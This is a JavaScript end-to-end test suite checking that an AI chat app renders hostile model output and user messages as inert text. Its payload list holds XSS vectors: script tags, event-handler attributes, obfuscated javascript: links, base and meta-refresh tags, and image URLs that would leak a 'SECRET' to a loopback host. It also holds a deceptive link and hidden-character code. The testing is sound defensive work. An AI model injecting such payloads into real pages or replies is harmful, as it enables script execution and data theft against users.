// Hostile model output (and a hostile user message) must render as inert text: no script runs,
// no remote resource is fetched, no javascript: link survives — live and after a reload.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sseContent } from './support/fake-llm.mjs';
import { useApp } from './support/app.mjs';
import {
  configure,
  waitIdle,
  sendMessage,
  conversation,
  lastAssistant,
  textOf,
  waitForStatus,
  poll,
  reload,
  byName,
  sleep,
} from './support/browser.mjs';

// 127.0.0.2 is loopback that nobody serves: a request there would mean an exfiltration channel.
const PAYLOADS = [
  '<script>window.__xss=1;alert(1)</script>',
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<svg onload="window.__xss=1;alert(1)">',
  '<iframe src="javascript:window.__xss=1;alert(1)"></iframe>',
  '[click](javascript:window.__xss=1;alert(1))',
  '![x](http://127.0.0.2:9/p.png?q=SECRET)',
  '<img src="http://127.0.0.2:9/x.png">',
  '<a href="https://ok.test" onclick="window.__xss=1;alert(1)">x</a>',
  '<details open ontoggle="window.__xss=1;alert(1)"><summary>s</summary>t</details>',
  '[caps](JaVaScRiPt:window.__xss=1)',
  'Inline <img src=x onerror="window.__xss=1;alert(1)"> in a sentence.',
  // The security review's families (#37): entity-encoded and fullwidth schemes, reference-style
  // targets, <base>, <meta refresh>, a title breakout, control characters before a scheme.
  '[ent](&#106;avascript:window.__xss=1)',
  '[wide](ｊａｖａｓｃｒｉｐｔ：window.__xss=1)',
  '![ref][r] [ref2][r]\n\n[r]: javascript:window.__xss=1',
  '<base href="http://127.0.0.2:9/">',
  '<meta http-equiv="refresh" content="0; url=javascript:window.__xss=1">',
  '[title](https://ok.test \'x" onmouseover="window.__xss=1\')',
  '[ctl](\u0001java\tscript:window.__xss=1)',
];
const HOSTILE = `Hostile reply follows.\n\n${PAYLOADS.join('\n\n')}\n\nEnd of hostile reply.`;
const HOSTILE_USER = 'Render this <img src=x onerror="window.__xss=1;alert(1)"> please';

/** Splits text into small pieces so tags straddle SSE chunk boundaries. */
function shards(text, size = 13) {
  const out = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

// Some tests make the app's own files fail: no service worker may answer for them.
const e2e = useApp({ serviceWorkers: 'block' });

async function assertInert(app, label) {
  const { page } = app;
  // Let any image/iframe load that rendering may have triggered show up in the request log.
  await sleep(500);
  assert.deepEqual(app.dialogAlerts, [], `${label}: no dialog (alert) may open`);
  assert.deepEqual(app.pageErrors, [], `${label}: no uncaught page errors`);
  assert.equal(await page.evaluate(() => window.__xss), undefined, `${label}: window.__xss must never be set`);

  const log = conversation(page);
  const dangerous = await log
    .locator('.content')
    .locator('script, img, iframe, frame, svg, math, object, embed, link, meta, base, style, form')
    .evaluateAll((els) => els.map((e) => e.outerHTML.slice(0, 120)));
  assert.deepEqual(dangerous, [], `${label}: no active elements inside rendered messages`);

  const handlers = await page.evaluate(() =>
    [...document.querySelectorAll('*')]
      .flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `<${el.localName} ${a.name}>`)),
  );
  assert.deepEqual(handlers, [], `${label}: no inline event handler attributes anywhere in the page`);

  const badUrls = await page.evaluate(() =>
    [...document.querySelectorAll('[href], [src], [action], [formaction], [xlink\\:href]')]
      .flatMap((el) => ['href', 'src', 'action', 'formaction', 'xlink:href'].map((n) => el.getAttribute(n)))
      .filter((v) => v && /^(javascript:|vbscript:|data:text\/html)/i.test(v.replace(/[\u0000-\u0020]/g, ''))),
  );
  assert.deepEqual(badUrls, [], `${label}: no javascript: URLs in the page`);

  const links = await log
    .locator('.content a')
    .evaluateAll((as) => as.map((a) => ({ text: a.textContent, href: a.getAttribute('href') })));
  for (const { text, href } of links) {
    if (href === null) continue;
    const protocol = new URL(href, 'http://base.invalid/').protocol;
    assert.ok(['http:', 'https:', 'mailto:'].includes(protocol), `${label}: link ${JSON.stringify(text)} has unsafe href ${href}`);
  }

  const allowed = new Set([app.origin, e2e.fake.origin]);
  const foreign = app.requests.filter((u) => {
    const url = new URL(u);
    if (url.protocol === 'data:' || url.protocol === 'blob:') return false;
    return !allowed.has(url.origin);
  });
  assert.deepEqual(foreign, [], `${label}: the page may only talk to its own origin and the API`);
  assert.ok(!app.requests.some((u) => u.includes('SECRET')), `${label}: the image URL was fetched`);

  // Raw HTML is shown as text, not interpreted.
  const reply = lastAssistant(page);
  const replyText = await textOf(reply);
  assert.ok(replyText.includes('Hostile reply follows.') && replyText.includes('End of hostile reply.'), `${label}: the whole reply is rendered`);
  assert.ok(replyText.includes('<script>'), `${label}: the literal text <script> is shown`);
  await log.getByText('<script>', { exact: false }).first().waitFor({ state: 'visible' });
}

test('hostile markdown and HTML in a reply stay inert, also after a reload', async (t) => {
  await e2e.open(t, async (app) => {
    const { page } = app;
    e2e.fake.reset();
    await configure(page, { baseUrl: e2e.fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
    // Only what happens from here on is about rendering the reply.
    app.requests.length = 0;
    e2e.fake.enqueue({ raw: sseContent(shards(HOSTILE)), rawDelayMs: 5 });
    await sendMessage(page, HOSTILE_USER);
    await waitIdle(page);
    await waitForStatus(lastAssistant(page), 'complete');
    // The hostile user message is shown as typed.
    const userText = await textOf(conversation(page).locator('article[data-role="user"]').last());
    assert.equal(userText, HOSTILE_USER);
    await assertInert(app, 'live');

    await reload(page);
    await poll(async () => (await textOf(lastAssistant(page))).includes('End of hostile reply.'), {
      message: 'the hostile reply restored after reload',
    });
    await assertInert(app, 'after reload');
  });
});

test('a code block in a reply has a working "Copy code" button', async (t) => {
  await e2e.open(t, async (app) => {
    const { page } = app;
    e2e.fake.reset();
    await configure(page, { baseUrl: e2e.fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
    const code = 'console.log("copied <b>ok</b>");';
    e2e.fake.enqueue({ chunks: ['Here is code:\n\n', '```js\n', `${code}\n`, '```\n'] });
    await sendMessage(page, 'Show code');
    await waitIdle(page);
    const reply = lastAssistant(page);
    await waitForStatus(reply, 'complete');
    const block = reply.locator('pre code');
    assert.equal(await block.count(), 1, 'one code block');
    assert.equal((await block.innerText()).trim(), code, 'code is shown verbatim');
    const copy = reply.getByRole('button', byName('Copy code'));
    await copy.waitFor({ state: 'visible' });
    await page.bringToFront();
    await copy.click();
    const copied = await poll(
      async () => {
        const text = await page.evaluate(() => navigator.clipboard.readText());
        return text.trim() === code ? text : false;
      },
      { timeout: 5_000, message: 'the code in the clipboard' },
    );
    assert.equal(copied.trim(), code);
  });
});

test('a link whose text names another host shows where it goes; hidden characters in code are shown, and "Copy code" says it copies them', async (t) => {
  // See: #37
  await e2e.open(t, async (app) => {
    const { page } = app;
    e2e.fake.reset();
    await configure(page, { baseUrl: e2e.fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
    const code = 'echo ok \u202E# safe\u001b[2K';
    e2e.fake.enqueue({
      chunks: ['Log in at [https://good.example](http://127.0.0.2:9/x) or [the docs](https://docs.example/a).\n\n', '```sh\n', `${code}\n`, '```\n'],
    });
    await sendMessage(page, 'Where do I log in?');
    await waitIdle(page);
    const reply = lastAssistant(page);
    await waitForStatus(reply, 'complete');
    const real = reply.locator('.md-real-host');
    assert.equal(await real.count(), 1, 'only the link whose text names a host');
    assert.equal(await real.innerText(), '(127.0.0.2)');
    assert.equal(await real.getAttribute('title'), 'This link goes to 127.0.0.2');
    assert.ok(await real.isVisible());
    // Each hidden character is a visible badge naming it, and no longer reorders the code.
    const marks = reply.locator('pre code .md-hidden');
    assert.deepEqual(await marks.evaluateAll((els) => els.map((e) => e.getAttribute('aria-label'))), ['U+202E', 'U+001B']);
    for (const mark of await marks.all()) {
      assert.ok(await mark.isVisible());
      assert.ok((await mark.boundingBox()).width > 10, 'the badge takes room');
    }
    assert.equal(await marks.first().getAttribute('title'), 'Hidden character U+202E (right-to-left override)');
    const copy = reply.getByRole('button', byName('Copy code'));
    await page.bringToFront();
    await copy.click();
    await poll(async () => (await copy.innerText()) === 'Copied (contains hidden characters)', { message: 'the button says what it copied' });
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    assert.equal(copied.trimEnd(), code, 'the code is copied as it is, hidden characters included');
    assert.deepEqual(app.pageErrors, []);
  });
});

test('if the markdown module cannot load: a clear alert, replies shown as inert plain text', async (t) => {
  await e2e.open(t, async (app) => {
    const { page } = app;
    // Block the renderer module, then reload so the app starts without it.
    await page.route('**/md-*/**', (route) => route.abort());
    await reload(page);
    const alert = page.getByRole('alert');
    await alert.waitFor({ state: 'visible' });
    assert.match(await alert.innerText(), /Formatting could not be loaded/);
    e2e.fake.reset();
    await configure(page, { baseUrl: e2e.fake.baseUrl, model: 'fake-small', apiKey: 'sk-e2e-security' });
    e2e.fake.enqueue({ raw: sseContent(shards('**bold** <img src=x onerror="window.__xss=1"> [x](javascript:alert(1))')), rawDelayMs: 5 });
    await sendMessage(page, 'plain please');
    await waitIdle(page);
    await waitForStatus(lastAssistant(page), 'complete');
    const reply = lastAssistant(page);
    assert.equal(await textOf(reply), '**bold** <img src=x onerror="window.__xss=1"> [x](javascript:alert(1))');
    assert.equal(await reply.locator('strong, img, a').count(), 0, 'nothing is interpreted');
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    assert.deepEqual(app.dialogAlerts, []);
  });
});
